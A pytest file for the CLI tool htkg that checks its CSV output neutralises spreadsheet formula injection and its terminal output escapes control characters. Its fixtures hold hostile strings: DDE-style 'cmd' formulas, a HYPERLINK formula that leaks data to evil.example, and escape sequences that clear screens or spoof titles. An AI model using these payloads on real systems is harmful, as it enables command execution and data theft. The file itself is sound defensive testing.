"""What htkg writes never acts on the reader (issue 17, class 6).

CSV: a cell that starts like a formula (=, +, -, @, tab, CR, their full-width forms)
gets a leading ' in every CSV htkg writes (``--format csv`` of ``query`` and
``cypher``, the neo4j-csv export), so a spreadsheet shows it and never runs it.

Terminals: no raw control character (ESC above all, also C1, BEL, backspace, CR)
reaches a terminal from table output, ``show``, ``minutes``, error lines or the
build summary; it is shown escaped (``\\x1b``). JSON stays exact.
"""
from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from hostile import ESC, cypher_json, error_line, run, write  # noqa: E402  (tests/hostile.py)

FIX = Path(__file__).parent / "fixtures"
MINE = FIX / "queries" / "mine"
# Raw characters a terminal acts on: ESC, the C1 CSI, BEL, backspace, DEL, CR, NUL-free.
RAW = ["\x1b", "\x9b", "\x07", "\x08", "\x7f", "\r", "\x00"]
FORMULA_NAMES = {
    "formula-hyperlink-trust": '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")',
    "formula-plus-trust": "+cmd|' /C notepad'!A0",
    "formula-minus-trust": "-2+3+cmd|' /C calc'!A0",
    "formula-at-trust": "@Trafficking Aid",
}


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def no_raw_control(text: str) -> None:
    for c in RAW:
        assert c not in text, f"raw U+{ord(c):04X} in {text[:300]!r}"


# -- CSV ---------------------------------------------------------------------------------
def test_saved_query_csv_neutralises_stored_formula_names(formula_store):
    result = run("query", "bodies-in-nation", "--queries", MINE, "-p", "nation=Wales",
                 "--db", formula_store, "--format", "csv")
    assert result.exit_code == 0, result.output
    cells = {row[0] for row in csv_rows(result.output)[1:]}
    for name in FORMULA_NAMES.values():
        assert "'" + name in cells and name not in cells
    assert "Delimiter Soup Trust" in cells and "Welsh Government" in cells   # others as stored
    # JSON and table output keep the names as they are
    rows = cypher_json(formula_store, "MATCH (o:Organisation) WHERE o.id STARTS WITH 'formula-' "
                                      "RETURN o.id AS id, o.name AS name ORDER BY id")
    assert {r["id"]: r["name"] for r in rows} == FORMULA_NAMES
    table = run("query", "bodies-in-nation", "--queries", MINE, "-p", "nation=Wales",
                "--db", formula_store)
    assert "@Trafficking Aid" in table.output and "'@Trafficking Aid" not in table.output


@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("＝1+1", "'＝1+1"),          # full-width equals sign
    ("＋1", "'＋1"),
    ("-5", "-5"),                 # text that is a number stays as it is
    ("+44", "+44"),
    ("-1.5e3", "-1.5e3"),
    ("Home Office", "Home Office"),
    (" =1+1", " =1+1"),           # a leading space: text already
])
def test_cypher_csv_cell_of_a_text_value(value, cell, registry_store):
    result = run("cypher", "RETURN $v AS v", "-p", f"v={json.dumps(value)}",
                 "--db", registry_store, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert csv_rows(result.output) == [["v"], [cell]]


def test_cypher_csv_of_lists_numbers_and_a_carriage_return(registry_store):
    result = run("cypher", "RETURN $l AS l, -5 AS n, -2.5 AS f, $cr AS cr", "-p",
                 'l=["=1+1", "b"]', "-p", "cr=\r=1+1", "--db", registry_store,
                 "--format", "csv")
    assert result.exit_code == 0, result.output
    assert csv_rows(result.output) == [["l", "n", "f", "cr"], ["'=1+1; b", "-5", "-2.5", "\\r=1+1"]]
    no_raw_control(result.output)


def test_neo4j_csv_export_neutralises_and_restores_exactly(formula_store, tmp_path):
    folder = tmp_path / "neo4j"
    result = run("export", "--format", "neo4j-csv", "-o", folder, "--db", formula_store)
    assert result.exit_code == 0, result.output
    with open(folder / "nodes_Organisation.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    header = rows[0]
    by_id = {r[0]: dict(zip(header, r)) for r in rows[1:]}
    for entity, name in FORMULA_NAMES.items():
        assert by_id[entity]["name:string"] == "'" + name
    assert by_id["formula-at-trust"]["aliases:string[]"] == "'＝1+1 Full Width"
    # restore-values.cypher sets back exactly what was neutralised, and nothing else
    restore = (folder / "restore-values.cypher").read_text(encoding="utf-8").split("\n")
    sets = [line for line in restore if line.startswith("MATCH")]
    assert len(sets) == 4
    hyper = next(line for line in sets if '"formula-hyperlink-trust"' in line)
    literal = hyper.split("n.`name` = ", 1)[1].split(", n.`aliases` = ")[0]
    assert json.loads(literal) == FORMULA_NAMES["formula-hyperlink-trust"]
    aliases = json.loads(hyper.split("n.`aliases` = ", 1)[1].rstrip(";"))
    assert aliases == ["@SUM(1+1)*cmd|' /C calc'!A0", "Plain Alias"]
    assert "restore-values.cypher" in (folder / "import.sh").read_text(encoding="utf-8")


# -- terminals ---------------------------------------------------------------------------
HOSTILE = [
    ("clear-screen", "\x1b[2J\x1b[H"),
    ("osc-hyperlink", "\x1b]8;;https://evil.example\x07click me\x1b]8;;\x07"),
    ("window-title", "\x1b]0;pwned\x07"),
    ("c1-csi", "\x9b31mred"),
    ("backspace-overwrite", "safe\x08\x08\x08\x08evil"),
    ("carriage-return-overwrite", "harmless\rEVIL"),
    ("delete", "a\x7fb"),
]


@pytest.mark.parametrize("case, text", HOSTILE, ids=[c for c, _ in HOSTILE])
def test_table_and_csv_show_control_characters_escaped_and_json_keeps_them(
        case, text, registry_store):
    for fmt in ("table", "csv"):
        result = run("cypher", f"RETURN $v AS `col{ESC}umn`, $v AS v", "-p", f"v={text}",
                     "--db", registry_store, "--format", fmt)
        assert result.exit_code == 0, result.output
        no_raw_control(result.output)
        assert "col\\x1bumn" in result.output
    exact = run("cypher", "RETURN $v AS v", "-p", f"v={text}", "--db", registry_store,
                "--format", "json")
    no_raw_control(exact.output)
    assert json.loads(exact.output) == [{"v": text}]


def test_show_and_query_errors_never_echo_an_escape(registry_store):
    result = run("show", f"{ESC}[2JHome Offic", "--db", registry_store)
    out = error_line(result, "Error: no entity called '\\x1b[2JHome Offic'")
    assert "home-office" in out
    result = run("query", f"country{ESC}]0;x{ESC}\\-links", "--db", registry_store)
    error_line(result, "Error: no saved query 'country\\x1b]0;x\\x1b\\-links'")
    result = run("cypher", f"RETURN {ESC}[31m", "--db", registry_store)
    assert result.exit_code == 1 and ESC not in result.output


def test_usage_errors_quoting_what_was_typed_are_escaped(tmp_path):
    result = run("export", "-o", tmp_path / f"graph{ESC}[2J.xyz")
    assert result.exit_code == 2 and ESC not in result.output
    assert "graph\\x1b[2J.xyz" in result.output
    result = run("cypher", "RETURN 1", "-p", f"{ESC}[2J")
    assert result.exit_code == 2 and ESC not in result.output and "\\x1b[2J" in result.output
    result = run(f"--{ESC}[2J")
    assert result.exit_code == 2 and ESC not in result.output


MINUTES = """Working Group on Hostile Output
3 March 2020

Attendees:
Home Office   Nina Brook{esc}[2J MP CHAIR
{esc}]0;pwned{bel}Agency   Official

1. Welcome
1.1 The Chair welcomed members{esc}[8m hidden text{esc}[0m to the group.
Actions: None
"""


def test_minutes_review_text_and_json_never_carry_an_escape(tmp_path):
    """Lines holding control characters are not read (a conversion failure); the
    review lists them, escaped, with their line."""
    path = write(tmp_path / "hostile-output-2020-03-03.txt",
                 MINUTES.format(esc=ESC, bel="\x07"))
    text = run("minutes", path)
    assert text.exit_code == 0, text.output
    no_raw_control(text.output)
    assert "line 5: unreadable attendee line: 'Home Office   Nina Brook\\x1b[2J MP CHAIR'" \
        in text.output
    assert "line 9: unreadable line: '1.1 The Chair welcomed members\\x1b[8m hidde'" \
        in text.output
    data = run("minutes", path, "--format", "json")
    no_raw_control(data.output)
    assert [w["line"] for w in json.loads(data.output)["warnings"]] == [None, 5, 6, 9]
    missing = run("minutes", tmp_path / f"{ESC}[2Jgone.txt")
    error_line(missing, "\\x1b[2Jgone.txt: cannot read the file")


def test_build_summary_and_build_errors_escape_names_paths_and_values(tmp_path):
    good = write(tmp_path / f"in{ESC}]0;pwned\x07/organisations{ESC}[2J.yaml",
                 "label: Organisation\nentries:\n"
                 "- id: escape-path-trust\n  name: Escape Path Trust\n  kind: ngo\n"
                 "  citation: https://example.org/escape-path\n")
    db = tmp_path / f"store{ESC}[2J"
    result = run("build", good, "--db", db, "--no-map", "--no-figures")
    assert result.exit_code == 0, result.output
    no_raw_control(result.output)
    assert "organisations\\x1b[2J.yaml (registry)" in result.output
    assert f"to {tmp_path}/store\\x1b[2J in" in result.output
    bad = write(tmp_path / f"bad{ESC}[2J" / "organisations.yaml",
                "- id: escape-value-trust\n  name: \"Escape\\e[2J Trust\"\n  kind: ngo\n"
                "  citation: https://example.org/escape-value\n")
    result = run("build", bad, "--db", db, "--no-map", "--no-figures")
    error_line(result, "bad\\x1b[2J/organisations.yaml:", "control character U+001B")
    minutes = write(tmp_path / "hostile-output-2020-03-03.txt",
                    MINUTES.format(esc=ESC, bel="\x07"))
    result = run("build", minutes, "--db", db, "--no-map", "--no-figures")
    no_raw_control(result.output)
    assert "Traceback" not in result.output


def test_progress_bars_name_a_hostile_file_escaped():
    """The bars are drawn on a terminal only; their stage may name an input file."""
    from rich.console import Console

    from htkg.commands.options import progress_bar
    screen = io.StringIO()
    console = Console(file=screen, force_terminal=True, width=100)
    with progress_bar(console) as progress:
        progress(f"reading {ESC}]0;pwned\x07{ESC}[2Jnrm.csv", 1, 2)
        progress(f"reading {ESC}]0;pwned\x07{ESC}[2Jnrm.csv", 2, 2)
    drawn = screen.getvalue()
    assert "reading \\x1b]0;pwned\\x07\\x1b[2Jnrm.csv" in drawn
    assert f"{ESC}]0;pwned" not in drawn and f"{ESC}[2J" not in drawn and "\x07" not in drawn
